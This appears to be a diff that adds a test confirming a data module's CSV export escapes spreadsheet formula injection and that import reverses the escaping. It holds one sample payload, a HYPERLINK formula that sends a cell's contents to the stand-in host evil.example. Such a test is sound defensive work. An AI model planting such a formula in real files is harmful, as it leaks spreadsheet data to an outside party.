@@ -132,3 +132,20 @@ def test_jsonl_export_is_one_sorted_object_per_line(session, users) -> None:
     io.import_rows(session=session, rows=[dict(r) for r in ROWS], actor=users["approver"], **OPERATOR)
     lines = io.write_rows(io.export_rows(session=session), "jsonl").splitlines()
     assert [json.loads(line)["id"] for line in lines] == ["faq-1", "faq-2", "faq-3"]
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(session, users) -> None:
+    import csv as std_csv
+    import io as std_io
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = [{"id": "=1+1", "question": "+972 number, how do I call?", "answer": formula, "lang": "en",
+             "tags": ["@home"], "variants": {"x": "-5% today"}, "alternates": ["\tindented"]}]
+    io.import_rows(session=session, rows=rows, actor=users["approver"], **OPERATOR)
+    text = io.write_rows(io.export_rows(session=session), "csv")
+    cells = [cell for row in list(std_csv.reader(std_io.StringIO(text)))[1:] for cell in row]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+    assert "'" + formula in cells and "'=1+1" in cells and "'-5% today" in cells
+    back = io.read_rows(text, "csv")[0]  # and the quote is taken off again on import
+    assert back["answer"] == formula and back["id"] == "=1+1" and back["variants"] == {"x": "-5% today"}
+    assert back["question"] == "+972 number, how do I call?"
